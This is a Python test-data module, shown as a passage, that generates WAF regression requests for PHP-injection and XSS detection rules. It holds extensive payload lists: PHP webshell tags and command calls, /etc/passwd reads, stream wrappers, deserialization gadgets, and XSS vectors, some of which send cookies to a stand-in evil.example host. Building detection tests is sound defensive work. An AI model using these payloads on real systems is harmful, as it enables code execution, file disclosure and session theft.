"""Blind examples of the PHP-injection and XSS titles, written as a rule author writes a rule's positive tests,
with this set's angle: WHERE the payload sits varies more than anything else.

The angle. For each detection title (CRS 3.3.4 request rules at paranoia levels 1-2, plus the request-rule titles
CRS 4 added for the same families), the canonical attack the title names, then one test per alternative of its
family (every keyword, function, operator, tag, scheme, file name or dialect of it), 8 to 12 payloads a title.
Each payload is sent twice: once to one of our real routes and once the way a WAF regression suite sends it (to a
path that is not ours, with an arbitrary parameter name; placements prefixed "rs-"). Over a title, the payloads
are spread across every part of a request that a rule of that title is meant to read:
  - query values and query parameter NAMES, a raw (not key=value) query string;
  - form values and form field names, a raw form-typed body that is not key=value;
  - JSON values at depth 1 to 4, inside arrays, and JSON keys (top level and nested), a JSON string body;
  - XML element text and attribute values;
  - multipart field values, field names and file names;
  - cookie values and cookie names;
  - the User-Agent, the Referer and another request header (X-Filename and X-File-Name for uploads);
  - the URL path: a whole segment, a segment's matrix (semicolon) parameter, the file name at the end;
  - a text/plain body.
Each payload is written as it must appear in that place to work: percent-encoded in a query, form or path
(RFC 3986 pchar in a path), escaped in XML text and attributes, a JSON string in a JSON key, a header never holding
a line break, a cookie with `;`, `%`, `+` and non-ASCII percent-encoded (the way PHP decodes cookies). A payload
that cannot sit in a place (a line break in a header, a quote in a multipart name, `=` in a cookie name, `]]>` in
CDATA) goes to the next place of its title's rotation.

Families and sub-families (one sub-family per title; titles that CRS shares between rules carry the rule id):
  php: php-open-tag-found, php-script-file-upload-found, php-configuration-directive-found, php-variables-found,
       php-io-stream-found, php-wrapper-scheme-detected, php-high-risk-function-name-found,
       php-high-risk-function-call-found, php-serialized-object-injection,
       php-variable-function-call-found-933180, php-variable-function-call-found-933210,
       php-medium-risk-function-name-found
  xss: xss-libinjection-941100, xss-libinjection-941101, xss-script-tag-vector, xss-event-handler-vector,
       xss-attribute-vector, xss-javascript-uri-vector, noscript-html-injection, noscript-attribute-injection,
       node-validator-blacklist-keywords, ie-xss-filters-941190 ... ie-xss-filters-941300,
       ie-xss-filters-941330, ie-xss-filters-941340, us-ascii-malformed-encoding-xss, utf7-encoding-ie-xss,
       jsfuck-hieroglyphy-obfuscation, javascript-global-variable, xss-disallowed-html-attributes,
       xss-html-tag-handler, angularjs-client-side-template-injection, javascript-method-detected,
       xss-javascript-function-without-parentheses
Real-route placements: query, param-name, form, form-name, json, json-d2, json-d3, json-d4, json-array,
json-key, cookie, cookie-name, header:User-Agent, header:Referer, header:X-Request-Note, header:X-Filename,
header:X-File-Name, xml-text, xml-attr, multipart-field, multipart-name, multipart-filename, path, path-matrix,
path-file, raw-body, raw-query. Regression-suite placements: the same places prefixed "rs-" (paths /, /index.php,
/get, /post, /search, /api/v1/items, /cgi-bin/test.cgi; parameter names foo, var, x, test, id, arg1).
The benign half carries the same words as people type them: Slack messages and bios (chat_and_bio), searches,
admin-panel notes, nested profile fields, cookies, browser and client User-Agents, Referers, upload file names,
XML bodies and path segments.

Authorship and independence. Written from general knowledge of PHP injection and cross-site scripting and from the
rule titles alone: no rule, engine, ruleset file, regression test or public payload list was read. Measured once,
on unchanged code, and not edited after the measurement. Deterministic (no clock, no unseeded randomness).
"""

from __future__ import annotations

import hashlib
import json
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "hundredsixteenth"

BROWSER_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/126.0.0.0 Safari/537.36")
RS_UA = "OWASP CRS test agent"

# ---------------------------------------------------------------------------------------------------------------
# Payloads, one list per title
# ---------------------------------------------------------------------------------------------------------------

PHP_OPEN_TAG = [
    "<?php system($_GET['cmd']); ?>",
    "<?= shell_exec('id') ?>",
    "<? passthru(\"uname -a\"); ?>",
    "<?PHP echo file_get_contents('/etc/passwd');",
    "<script language=\"php\">system('id');</script>",
    "<script language=php>echo 1;</script>",
    "<%= system('id') %>",
    "GIF89a<?php eval($_POST[0]); ?>",
    "<?php\n@eval($_REQUEST['x']);",
    "?><?php phpinfo();",
    "<?php/**/system('id');",
    "<?=$_GET[0]?>",
]

PHP_UPLOAD = [
    "shell.php",
    "avatar.phtml",
    "x.php5",
    "image.jpg.php",
    "cmd.PHP7",
    "backdoor.php3",
    "upload.php.",
    "evil.pht",
    "c99.php4",
    "r57.phps",
    "shell.php;.jpg",
    "profile.Php",
]

PHP_CONFIG = [
    "allow_url_include=On",
    "auto_prepend_file=php://input",
    "auto_append_file=/etc/passwd",
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "disable_functions=",
    "open_basedir=/",
    "safe_mode=Off",
    "register_globals = on",
    "allow_url_fopen=1",
    "display_errors=1",
    "error_log=/var/www/html/x.php",
    "include_path=.:/tmp",
]

PHP_VARIABLES = [
    "$_GET['cmd']",
    "$_POST[x]",
    "$_COOKIE[\"session\"]",
    "$_REQUEST",
    "$_SERVER['HTTP_USER_AGENT']",
    "$_FILES['f']['tmp_name']",
    "$_ENV[\"PATH\"]",
    "$_SESSION['admin']=1",
    "$GLOBALS['config']",
    "$HTTP_RAW_POST_DATA",
    "$http_response_header",
    "$HTTP_POST_VARS['a']",
]

PHP_IO_STREAM = [
    "php://input",
    "php://stdin",
    "php://fd/0",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://memory",
    "php://temp/maxmemory:1024",
    "php://output",
    "php://stderr",
    "PHP://Filter/read=string.toupper/resource=config.php",
    "php://filter/zlib.deflate/resource=/etc/passwd",
]

PHP_WRAPPER = [
    "expect://id",
    "phar://uploads/avatar.jpg/shell.php",
    "zip://uploads/a.zip#x.php",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://uploads/archive.bz2",
    "glob:///var/www/*.php",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "ssh2.exec://user:pw@127.0.0.1:22/id",
    "ssh2.shell://127.0.0.1:22/xterm",
    "rar://uploads/x.rar#shell.php",
    "ogg://attacker.example/a.ogg",
    "ssh2.sftp://user:pw@127.0.0.1/etc/passwd",
]

PHP_HIGH_NAME = [
    "phpinfo",
    "shell_exec",
    "passthru",
    "proc_open",
    "pcntl_exec",
    "base64_decode",
    "gzinflate",
    "file_put_contents",
    "create_function",
    "call_user_func_array",
    "fsockopen",
    "str_rot13",
]

PHP_HIGH_CALL = [
    "system('id')",
    "exec(\"cat /etc/passwd\")",
    "eval($_POST['c'])",
    "assert(\"phpinfo()\")",
    "popen('ls', 'r')",
    "preg_replace('/x/e', 'system(\"id\")', 'x')",
    "array_map('system', ['id'])",
    "passthru /* c */ ('whoami')",
    "proc_open('id', [], $p)",
    "unserialize($_COOKIE['d'])",
    "highlight_file('/etc/passwd')",
    "putenv(\"LD_PRELOAD=/tmp/x.so\")",
]

PHP_SERIALIZED = [
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "O:+8:\"UserPref\":0:{}",
    "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
    "a:1:{i:0;O:6:\"Logger\":1:{s:4:\"path\";s:9:\"shell.php\";}}",
    "O:24:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:9:\"_fn_close\";s:7:\"phpinfo\";}",
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":1:{s:6:\"events\";O:15:\"Faker\\Generator\":0:{}}",
    "O:4:\"Test\":1:{s:1:\"a\";r:1;}",
    "a:2:{s:4:\"user\";O:4:\"User\":1:{s:5:\"admin\";b:1;}s:2:\"id\";i:1;}",
    "O:10:\"SoapClient\":1:{s:8:\"location\";s:23:\"http://127.0.0.1:8080/x\";}",
    "O:3:\"Foo\":1:{s:3:\"cmd\";s:2:\"id\";}",
    "C:16:\"SplObjectStorage\":22:{x:i:1;O:8:\"stdClass\":0:{},N;;m:a:0:{}}",
    "x|O:7:\"Session\":1:{s:4:\"role\";s:5:\"admin\";}",
]

PHP_VAR_FUNC = [
    "$f('id')",
    "$_GET['f']($_GET['c'])",
    "${'_GET'}[0](${'_GET'}[1])",
    "$a=$_POST['a'];$a('id');",
    "$$name('x')",
    "$fn['x'](\"whoami\")",
    "${\"_REQUEST\"}[\"c\"](\"ls\")",
    "$cb /* */ ('id')",
    "$x{0}('id')",
    "@$_COOKIE[1]($_COOKIE[2]);",
    "$h ('id')",
    "${$n}('id')",
]

PHP_VAR_FUNC_STRING = [
    "(system)('id')",
    "'system'('id')",
    "\"sys\".\"tem\"('id')",
    "('sys'.'tem')('ls')",
    "['system'][0]('id')",
    "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")('id')",
    "(str_rot13('flfgrz'))('id')",
    "\"\\163\\171\\163\\164\\145\\155\"('id')",
    "(base64_decode('c3lzdGVt'))('whoami')",
    "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id')",
    "'sy'/**/.'stem'('id')",
    "(\"exec\")(\"id\")",
]

PHP_MEDIUM_NAME = [
    "chmod",
    "fwrite",
    "curl_exec",
    "unlink",
    "getenv",
    "ini_set",
    "symlink",
    "stream_socket_client",
    "pfsockopen",
    "parse_str",
    "ftp_connect",
    "posix_kill",
]

XSS_LIBINJECTION = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(document.domain)>",
    "\"><iframe src=javascript:alert(1)>",
    "<body onload=alert('xss')>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<input autofocus onfocus=alert(1)>",
    "'><details open ontoggle=confirm(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<marquee onstart=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">",
]

XSS_LIBINJECTION_PL2 = [
    "<script>alert(1)</script>",
    "\"><svg onload=alert(1)>",
    "https://app.example.com/\"><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>.html",
    "jsessionid=\"><svg/onload=prompt(1)>",
    "javascript:alert(document.cookie)",
    "<body onload=alert(1)>",
    "http://evil.example/?q=<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "'><img src=1 onerror=confirm(1)>",
]

XSS_SCRIPT_TAG = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type=\"text/javascript\">document.location='http://evil.example/?c='+document.cookie</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/src=data:,alert(1)>",
    "<script language=vbscript>MsgBox 1</script>",
    "\"><script>prompt(1)</script>",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<ScRiPt>confirm`1`</ScRiPt>",
    "<script\n>alert(1)</script>",
    "<script async src=\"https://evil.example/x.js\"></script>",
    "<svg><script>alert(String.fromCharCode(88,83,83))</script></svg>",
]

XSS_EVENT_HANDLER = [
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<input onfocus=alert(1) autofocus>",
    "<svg/onload=alert(1)>",
    "<details ontoggle=alert(1) open>",
    "<audio src=x onerror=alert(1)>",
    "\" onclick=\"alert(1)",
    "<form onsubmit=alert(1)><button>x",
    "<select onchange=alert(1)>",
    "<a onpointerenter=alert(1)>x</a>",
    "' onkeyup='alert(1)",
]

XSS_ATTRIBUTE = [
    "<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text>"
    "</a></svg>",
    "<!DOCTYPE x [<!ENTITY % a \"<script>alert(1)</script>\">]>",
    "<button formaction=javascript:alert(1)>x",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<div style=\"width:expression(alert(1))\">",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<input type=image formaction=//evil.example>",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
]

XSS_JS_URI = [
    "<div style=\"background-image:url(javascript:alert(1))\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=\"javascript:alert(document.cookie)\">",
    "<img dynsrc=\"javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\">",
    "<p style=\"color:red;background:url(javascript:alert(1))\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<body style=\"list-style-image:url(javascript:alert(1))\">",
    "<form action=\"javascript:alert(1)\"><input type=submit>",
    "javascript:alert(1)//",
    "<object data=\"javascript:alert(1)\">",
]

NOSCRIPT_HTML = [
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=pass type=password>",
    "<object data=x.swf>",
    "<embed src=x.swf>",
    "<frameset><frame src=javascript:alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    "<style>body{display:none}</style>",
    "<link rel=import href=//evil.example/x.html>",
    "<applet code=x.class>",
    "<isindex action=javascript:alert(1) type=image>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
]

NOSCRIPT_ATTRIBUTE = [
    "javascript:alert(1)",
    "javascript:eval(name)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;charset=utf-8,<svg onload=alert(1)>",
    "@import url(//evil.example/x.css);",
    "@im\\port'//evil.example/x.css'",
    "-moz-binding:url(//evil.example/xbl.xml#x)",
    "javascript:\\u0061lert(1)",
    "\" style=\"-moz-binding:url(http://evil.example/b.xml#xss)\"",
    "JaVaScRiPt:document.location='//evil.example'",
    "data:application/javascript,alert(1)",
]

NODE_VALIDATOR = [
    "document.cookie",
    "document.write(1)",
    "window.location='//evil.example'",
    "x.innerHTML='<img src=x onerror=alert(1)>'",
    "this.parentNode.removeChild(this)",
    "-moz-binding:url(#x)",
    "<!-- x",
    "x -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "document.body.innerHTML=location.hash",
    "top.window.location.href='//evil.example'",
    "new Image().src='//evil.example/?'+document.cookie",
]

IE_STYLE = [
    "<style>@import 'http://evil.example/x.css';</style>",
    "<STYLE>body{background:url(\"javascript:alert(1)\")}</STYLE>",
    "<style>*{x:expression(alert(1))}</style>",
    "<style type=\"text/css\">@im\\port url(//evil.example/a.css);</style>",
    "<style>li{list-style-image:url(javascript:alert(1))}</style>",
    "<style>@\\69mport'//evil.example'</style>",
    "<style>a{behavior:url(xss.htc)}</style>",
    "<style>div{width:expression&#40;alert(1)&#41;}</style>",
    "<style>body{-moz-binding:url(//evil.example/x.xml#a)}</style>",
    "<style >@import\"//evil.example/s.css\"</style>",
]

IE_VMLFRAME = [
    "<v:vmlframe src=\"//evil.example/x.vml\">",
    "<vmlframe src=javascript:alert(1)>",
    "<x:vmlframe src=x.htm#a>",
    "<V:VMLFRAME SRC=\"http://evil.example/a.vml#xss\"></V:VMLFRAME>",
    "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=\"xss.vml#a\">",
    "<v:vmlframe style=\"behavior:url(#default#VML)\" src=//evil.example/x>",
    "<v:vmlframe/src=//evil.example/x.vml>",
    "<v:vmlframe\tsrc\t=//evil.example>",
    "<v:vmlframe id=a src = 'data:text/html,x'>",
]

IE_JAVASCRIPT = [
    "&#106;avascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "java&#x0A;script:alert(1)",
    "j&#x61;vascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "jav\tascript:alert(1)",
    "javas&#99;ript:alert(1)",
    "<a href=\"&#0000106;avascript:alert(1)\">x</a>",
    "<img src=\"jav&#x0D;ascript:alert('XSS');\">",
    "JaVaScRiPt&colon;alert(1)",
    "&#74;&#65;&#86;&#65;script:alert(1)",
]

IE_VBSCRIPT = [
    "vbscript:msgbox(1)",
    "&#118;bscript:MsgBox(\"XSS\")",
    "vb&#x09;script:alert(1)",
    "VBSCRIPT:Execute(\"MsgBox 1\")",
    "<a href=\"vbscript:msgbox(document.cookie)\">x</a>",
    "<img src='vbscript:msgbox(\"XSS\")'>",
    "vbs&#99;ript:msgbox(1)",
    "v\tbscript:msgbox(1)",
    "&#x76;&#x62;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:msgbox(1)",
    "<iframe src=\"vbscript:CreateObject(&quot;WScript.Shell&quot;).Run(&quot;calc&quot;)\">",
]

IE_EMBED = [
    "<embed src=\"//evil.example/x.swf\">",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<embed type=\"image/svg+xml\" src=\"x.svg\">",
    "<embed/src=//evil.example/x.swf>",
    "<embed code=x.swf allowscriptaccess=always>",
    "<embed src=javascript:alert(1)>",
    "<embed width=1 height=1 type=application/x-shockwave-flash src=x.swf>",
    "<embed\tsrc=//evil.example/a.swf>",
    "<embed src=\"x.mov\" pluginspage=\"//evil.example\">",
]

IE_IMPORT = [
    "<?import namespace=\"t\" implementation=\"#default#time2\">",
    "<import implementation=\"http://evil.example/x.htc\">",
    "<?IMPORT NAMESPACE=\"xss\" IMPLEMENTATION=\"//evil.example/xss.htc\">",
    "<?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"x\">",
    "<?import implementation=//evil.example/a.htc>",
    "<import namespace=x implementation=javascript:alert(1)>",
    "<?import/implementation=\"x.htc\">",
    "<?import namespace=\"v\" implementation=\"#default#VML\" ?>",
]

IE_META_EQUIV = [
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<script>alert(1)</script>\">",
    "<meta http-equiv=\"content-type\" content=\"text/html;charset=utf-7\">",
    "<meta http-equiv=refresh content=\"0; url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
    "<meta/http-equiv=refresh content=0;url=//evil.example>",
    "<meta http-equiv='&#114;efresh' content='0;url=//evil.example'>",
    "<meta name=x http-equiv=\"REFRESH\" content=\"1\">",
    "<meta http-equiv=\"x-ua-compatible\" content=\"IE=5\">",
]

IE_META_CHARSET = [
    "<meta charset=\"UTF-7\">",
    "<META CHARSET=x-imap4-modified-utf7>",
    "<meta charset=utf-16be>",
    "<meta content=\"text/html\" charset=\"iso-2022-jp\">",
    "<meta/charset=UTF-7>",
    "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-7\">",
    "<meta charset = \"shift_jis\">",
    "<meta charset=ucs-4>",
]

IE_LINK = [
    "<link rel=\"stylesheet\" href=\"//evil.example/x.css\">",
    "<LINK REL=\"import\" HREF=\"http://evil.example/x.html\">",
    "<link href=\"javascript:alert(1)\" rel=stylesheet>",
    "<link rel=preload href=//evil.example/x.js as=script>",
    "<link/rel=icon/href=//evil.example/favicon.ico>",
    "<link rel=\"prefetch\" href=\"//evil.example/track\">",
    "<link rel=manifest href=data:application/json,{}>",
    "<link rel=\"dns-prefetch\" href=\"//leak.evil.example\">",
    "<link rel=alternate href=\"//evil.example/phish\">",
]

IE_BASE = [
    "<base href=\"//evil.example/\">",
    "<BASE HREF=\"javascript:alert(1);//\">",
    "<base href=http://evil.example/ target=_blank>",
    "<base/href=//evil.example>",
    "<base target=\"_top\" href=\"https://evil.example/\">",
    "<base href = \"data:text/html,\">",
    "<base href=\"&#106;avascript:alert(1)//\">",
    "<base href=\"//evil.example\"><script src=app.js></script>",
]

IE_APPLET = [
    "<applet code=\"Exploit.class\" codebase=\"//evil.example/\">",
    "<APPLET ARCHIVE=x.jar CODE=x>",
    "<applet/code=x.class>",
    "<applet>",
    "<applet code=javascript:alert(1)></applet>",
    "<applet codebase=//evil.example code=Evil width=1 height=1></applet>",
    "<applet\tcode=a.class>",
    "<applet object=x.ser>",
]

IE_OBJECT = [
    "<object data=\"javascript:alert(1)\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"//evil.example/x.sct\"></OBJECT>",
    "<object classid=\"clsid:D27CDB6E-AE6D-11cf-96B8-444553540000\">",
    "<object codetype=application/x-java code=x.class>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<object/data=//evil.example/x.swf>",
    "<object type=\"image/svg+xml\" data=\"x.svg\">",
    "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>",
    "<object codebase=//evil.example/x.cab#version=1,0 classid=clsid:0>",
]

US_ASCII = [
    "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
    "\u00bcimg src=x onerror=alert(1)\u00be",
    "\u00bcsvg onload=alert(1)\u00be",
    "\u00bciframe src=javascript:alert(1)\u00be\u00bc/iframe\u00be",
    "<script\u00bealert(1)\u00bc/script\u00be",
    "\u00bcbody onload=alert(1)>",
    "\u00bcscript src=//evil.example/x.js\u00be\u00bc/script\u00be",
    "\u00bca href=javascript:alert(1)\u00bex\u00bc/a\u00be",
    "\u00bc/title\u00be\u00bcscript\u00bealert(1)\u00bc/script\u00be",
]

UTF7 = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-img src=x onerror=alert(1)+AD4-",
    "+ADw-svg onload=alert(1)+AD4-",
    "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)+ADwALwBzAGMAcgBpAHAAdAA+-",
    "<script+AD4-alert(1)</script>",
    "+ADw-iframe src=javascript:alert(1)+AD4-",
    "+ADw-/title+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-body onload=alert(1)>",
    "+ADw-a href=javascript:alert(1)+AD4-x",
    "+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4-",
]

JSFUCK = [
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    "(![]+[])[+[]]+(![]+[])[!+[]+!+[]]",
    "+!+[]",
    "!![]+!![]",
    "(+[![]]+[])[+!+[]]",
    "([]+{})[+!![]]",
    "[!+[]+!+[]]+[+[]]",
    "(!![]+[])[+!![]]+([][[]]+[])[+[]]",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])"
    "[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]",
    "(![]+[])[!![]+!![]+!![]]+([]+{})[+!![]+[+[]]]",
    "[]+[]+{}+!![]",
]

JS_GLOBAL = [
    "window[\"al\"+\"ert\"](1)",
    "self['alert'](document.domain)",
    "top[\"al\\x65rt\"](1)",
    "this['eval']('alert(1)')",
    "document['cookie']",
    "window/**/[\"alert\"](1)",
    "parent['alert'](1)",
    "frames['alert'](1)",
    "globalThis['alert'](1)",
    "[window][0]['alert'](1)",
    "self[atob('YWxlcnQ=')](1)",
    "top[/al/.source+/ert/.source](1)",
]

XSS_DISALLOWED_ATTR = [
    "<a href=//evil.example>click</a>",
    "<img src=//evil.example/pixel.gif>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">",
    "<div style=background:red>",
    "<iframe src=//evil.example>",
    "href='https://evil.example/login'",
    "src = \"//evil.example/x.js\"",
    "<span style=\"font-size:999px\">",
    "<a href=\"https://evil.example/phish\">Reset your token</a>",
    "style=display:none",
    "<audio src=//evil.example/a.mp3>",
]

XSS_TAG_HANDLER = [
    "<b>bold</b>",
    "<marquee>scrolling</marquee>",
    "<h1>Hacked</h1>",
    "<blink>",
    "<plaintext>",
    "<xmp>",
    "<bgsound src=x>",
    "<isindex>",
    "<div>x</div>",
    "<table><tr><td>",
    "<font color=red>",
    "<textarea>",
]

IE_LOCATION = [
    "\";location='javascript:alert(1)';\"",
    "';document.location='//evil.example/?'+document.cookie;//",
    "\"-(name='alert(1)')-\"",
    "'+onerror=alert;throw 1//",
    "\"|valueOf=alert|\"",
    "' in window && (location='//evil.example')//",
    "\";window.name=\"x\";//",
    "\"+\\u006Cocation='//evil.example'+\"",
    "'-\\u006e\\u0061\\u006d\\u0065='x'//",
    "\"};onerror=alert;throw'x';//",
    "');top.location=\"//evil.example\";//",
]

IE_PROPERTY = [
    "\";document.cookie=\"a=b\";//",
    "'+document.body.innerHTML='x'+'",
    "\";window.opener.location=\"//evil.example\";//",
    "');self.x.y=1;//",
    "' in document.domain=1//",
    "'};Object.prototype.src='//evil.example/x.js';//",
    "\");this.form.action=\"//evil.example\";//",
    "'-alert.call=1-'",
    "\"+document.forms[0].action=\"//evil.example\"+\"",
    "';top.frames.x.src='javascript:alert(1)';//",
]

ANGULAR = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{7*7}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor);}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{$eval.constructor('alert(1)')()}}",
    "<div ng-app>{{$event.view.alert(1)}}</div>",
    "{{ 1337 * 2 }}",
    "<input autofocus ng-focus=\"$event.view.alert(1)\">",
]

JS_METHOD = [
    "eval('alert(1)')",
    "setTimeout('alert(1)',0)",
    "setInterval(\"alert(1)\",100)",
    "new Function('alert(1)')()",
    "alert(document.domain)",
    "atob('YWxlcnQoMSk=')",
    "prompt(1)",
    "confirm(document.cookie)",
    "btoa(document.cookie)",
    "Function(\"alert(1)\")()",
    "eval (atob(\"YWxlcnQoMSk=\"))",
]

JS_NO_PARENS = [
    "[].sort.call`${alert}1337`",
    "[].map.call`${eval}\\u{61}lert\\x281\\x29`",
    "Reflect.apply.call`${alert}${window}${[1]}`",
    "alert`1`",
    "onerror=alert;throw 1",
    "{onerror=eval}throw'=alert\\x281\\x29'",
    "setTimeout`alert\\x28document.domain\\x29`",
    "valueOf=alert;window+''",
    "toString=alert,window+1",
    "location=name",
    "Function`x${'alert\\x281\\x29'}x```",
]

# ---------------------------------------------------------------------------------------------------------------
# Where each title's payloads go
# ---------------------------------------------------------------------------------------------------------------

PHP_REAL = ["query", "form", "json", "param-name", "cookie", "json-d2", "xml-text", "form-name", "json-array",
            "multipart-field", "json-key", "json-d3", "cookie-name", "xml-attr", "multipart-name", "json-d4",
            "raw-body", "json-key-d2"]
PHP_RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-cookie", "rs-param-name", "rs-raw-form", "rs-multipart",
          "rs-json-d2", "rs-form-name", "rs-json-array", "rs-header:X-Custom", "rs-cookie-name", "rs-xml-attr",
          "rs-json-key", "rs-raw-json"]
XSS_REAL = ["query", "form", "json", "header:User-Agent", "header:Referer", "cookie", "param-name", "json-d2",
            "xml-text", "multipart-field", "form-name", "json-array", "path", "json-key", "cookie-name",
            "multipart-filename", "xml-attr", "json-d3", "multipart-name", "header:X-Request-Note", "json-d4",
            "path-matrix", "raw-body", "path-file", "json-key-d2"]
XSS_RS = ["rs-query", "rs-form", "rs-json", "rs-header:User-Agent", "rs-header:Referer", "rs-cookie", "rs-xml",
          "rs-param-name", "rs-raw-form", "rs-multipart", "rs-json-d2", "rs-header:X-Custom", "rs-form-name",
          "rs-cookie-name", "rs-path", "rs-json-array", "rs-multipart-filename", "rs-xml-attr", "rs-json-key",
          "rs-multipart-name", "rs-raw-text", "rs-path-file"]
UPLOAD_REAL = ["multipart-filename", "header:X-Filename", "multipart-filename", "header:X-File-Name"]
UPLOAD_RS = ["rs-multipart-filename", "rs-header:X-Filename", "rs-multipart-filename", "rs-header:X-File-Name"]
CONFIG_REAL = ["raw-query", *PHP_REAL]
CONFIG_RS = ["rs-raw-query", *PHP_RS]
SERIAL_REAL = [*PHP_REAL[:6], "header:X-Request-Note", *PHP_REAL[6:12], "header:Referer"]
SERIAL_RS = [*PHP_RS[:5], "rs-header:User-Agent", *PHP_RS[5:]]
PATH_REAL = ["path", "header:Referer", "path-file", "path-matrix"]
PATH_RS = ["rs-path", "rs-header:Referer", "rs-path-file", "rs-path-matrix"]

# (family, sub-family, payloads, real-route places, regression-suite places)
Title = tuple[str, str, list[str], list[str], list[str]]
TITLES: list[Title] = [
    ("php", "php-open-tag-found", PHP_OPEN_TAG, PHP_REAL, PHP_RS),
    ("php", "php-script-file-upload-found", PHP_UPLOAD, UPLOAD_REAL, UPLOAD_RS),
    ("php", "php-configuration-directive-found", PHP_CONFIG, CONFIG_REAL, CONFIG_RS),
    ("php", "php-variables-found", PHP_VARIABLES, PHP_REAL, PHP_RS),
    ("php", "php-io-stream-found", PHP_IO_STREAM, PHP_REAL, PHP_RS),
    ("php", "php-wrapper-scheme-detected", PHP_WRAPPER, PHP_REAL, PHP_RS),
    ("php", "php-high-risk-function-name-found", PHP_HIGH_NAME, PHP_REAL, PHP_RS),
    ("php", "php-high-risk-function-call-found", PHP_HIGH_CALL, PHP_REAL, PHP_RS),
